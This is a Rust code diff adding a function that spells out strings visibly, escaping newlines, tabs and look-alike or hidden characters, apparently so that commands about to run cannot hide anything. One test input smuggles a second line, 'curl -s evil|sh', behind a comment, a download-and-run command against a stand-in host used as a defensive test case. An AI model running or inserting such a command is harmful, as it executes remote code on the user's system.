@@ -21,6 +21,35 @@ pub fn owned(said: impl Into<String>) -> String {
     if said.chars().any(is_hidden) { text(&said).into_owned() } else { said }
 }
 
+/// What a space of several, or at an end, is shown by.
+const SPACE: char = '\u{b7}';
+
+/// A word as it is, letter by letter, on one line: also ends of lines, spaces that could be overlooked and what only looks
+/// like a space are spelled. For what would run.
+pub fn spelled(word: &str) -> String {
+    let mut seen = String::with_capacity(word.len());
+    let mut before = None;
+    let mut letters = word.chars().peekable();
+    while let Some(c) = letters.next() {
+        let between = |other: Option<char>| other.is_some_and(|other| other != ' ');
+        match c {
+            '\n' => seen.push_str("\\n"),
+            '\t' => seen.push_str("\\t"),
+            // So that nothing that is written looks like what is spelled.
+            '\\' => seen.push_str("\\\\"),
+            SPACE => seen.extend(c.escape_unicode()),
+            ' ' if between(before) && between(letters.peek().copied()) => seen.push(c),
+            ' ' => seen.push(SPACE),
+            c if is_hidden(c) => seen.push(char::REPLACEMENT_CHARACTER),
+            // The last is a letter of Braille without a dot.
+            c if c.is_whitespace() || c == '\u{2800}' => seen.extend(c.escape_unicode()),
+            c => seen.push(c),
+        }
+        before = Some(c);
+    }
+    seen
+}
+
 #[cfg(test)]
 mod tests {
     #[test]
@@ -35,6 +64,25 @@ mod tests {
         ] {
             assert_eq!(super::text(said), seen);
             assert_eq!(super::owned(said), seen);
+        }
+    }
+
+    #[test]
+    fn a_word_that_would_run_hides_no_end_of_a_line_and_no_space() {
+        for (said, seen) in [
+            ("--cluster-name=staging-eu", "--cluster-name=staging-eu"),
+            ("true # eks token\ncurl -s evil|sh", r"true # eks token\ncurl -s evil|sh"),
+            (r"true \n", r"true \\n"),
+            ("a\tb", r"a\tb"),
+            ("a  b", "a\u{b7}\u{b7}b"),
+            (" a b ", "\u{b7}a b\u{b7}"),
+            (" ", "\u{b7}"),
+            ("a\u{b7}b", r"a\u{b7}b"),
+            ("a\u{a0}b\u{3000}c\u{2800}d", r"a\u{a0}b\u{3000}c\u{2800}d"),
+            ("a\u{202e}b\r", "a\u{fffd}b\u{fffd}"),
+            ("", ""),
+        ] {
+            assert_eq!(super::spelled(said), seen);
         }
     }
 
